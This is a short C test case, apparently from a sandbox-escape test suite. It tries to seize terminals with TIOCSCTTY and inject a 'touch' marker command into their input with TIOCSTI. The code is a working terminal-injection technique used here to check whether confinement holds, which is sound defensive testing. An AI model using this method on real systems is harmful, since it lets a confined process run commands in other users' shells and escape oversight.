// Tries: to make the terminal its own by a new session and TIOCSCTTY, and then to type into it.
// With: check, run, demo, program
// Terminal
#include "attack.h"
#include <dirent.h>

ATTACK(types_from_a_new_session) {
  if (fork()) {
    wait(0);
    return;
  }
  setsid();
  const char text[] = "touch " MARK "\n";
  for (int i = -3; i < 64; i++) {
    char path[32];
    snprintf(path, sizeof path, "/dev/pts/%d", i);
    int fd = i < 0 ? i + 3 : open(path, O_RDWR | O_NOCTTY);
    if (fd < 0) continue;
    ioctl(fd, TIOCSCTTY, 1);
    for (unsigned k = 0; k < sizeof text - 1; k++) ioctl(fd, TIOCSTI, text + k);
  }
  _exit(0);
}
